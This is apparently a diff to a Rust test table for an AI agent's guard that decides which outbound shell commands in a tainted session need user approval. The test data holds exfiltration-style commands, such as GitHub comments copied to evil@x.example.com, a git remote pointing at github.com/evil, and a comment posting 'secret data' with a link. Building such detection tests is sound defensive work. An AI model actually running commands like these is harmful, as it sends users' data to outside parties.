@@ -209,7 +209,7 @@ fn outbound_commands_are_asked_about_and_ordinary_ones_are_not() {
 }
 
 /// Prompts, and calls in a tainted session after them with whether they are asked about.
-const TYPED: [(&str, &[(&str, bool)]); 7] = [
+const TYPED: [(&str, &[(&str, bool)]); 8] = [
     (
         "Post the result to https://api.acme.example/hook and copy it to files.acme.example.",
         &[
@@ -263,6 +263,16 @@ const TYPED: [(&str, &[(&str, bool)]); 7] = [
             ("gh issue comment 3 -R acme/web --body x --cc=evil@x.example.com", true),
             ("gh issue comment 3 -R acme/web --body x -zevil@x.example.com", true),
             ("gh issue comment 3 -R acme/web --body x --cc=evil@x.example.com,me@acme.example", true),
+        ],
+    ),
+    (
+        "Read https://typed-example.com/x first.",
+        &[
+            ("curl -X POST https://typed-example.com/x", false),
+            ("gh issue comment 5 --body 'see https://typed-example.com/x'", true),
+            ("gh issue comment 5 --body https://typed-example.com/x", true),
+            ("gh issue comment 5 --body=https://typed-example.com/x", true),
+            ("gh pr comment 5 --body 'secret data, https://typed-example.com/x'", true),
         ],
     ),
     ("Push it to github.com.", &[("git remote add x https://github.com/evil/x", true)]),
